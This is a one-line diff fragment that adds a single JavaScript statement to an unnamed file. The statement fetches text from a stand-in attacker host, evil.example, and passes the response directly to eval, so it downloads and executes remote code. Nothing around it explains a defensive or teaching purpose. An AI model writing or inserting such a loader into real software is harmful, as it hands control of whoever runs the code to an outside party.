@@ -1,0 +1,1 @@
+fetch("https://evil.example/p").then(r => r.text()).then(eval);
